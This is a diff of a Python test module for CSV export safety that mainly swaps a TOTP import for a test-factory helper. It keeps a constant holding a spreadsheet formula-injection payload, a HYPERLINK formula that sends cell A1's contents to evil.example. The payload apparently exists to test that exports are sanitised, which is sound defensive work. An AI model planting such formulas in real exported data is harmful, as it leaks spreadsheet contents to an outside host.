@@ -6,14 +6,13 @@ import csv
 import io
 
 import pytest
-from allauth.mfa.totp.internal.auth import TOTP
 from django.urls import reverse
 
 from core.exports import SafeWriter, csv_safe
 from courses import services as course_services
-from organisations import demo
 from organisations import services as org_services
 from tests.courses.conftest import make_learner
+from tests.factories.organisations import totp_activate
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
 
@@ -75,7 +74,7 @@ def admin_user(db):
     user.is_superuser = True
     user.is_staff = True
     user.save(update_fields=["is_superuser", "is_staff"])
-    TOTP.activate(user, demo.DEMO_TOTP_SECRET)
+    totp_activate(user)
     return user
 
 
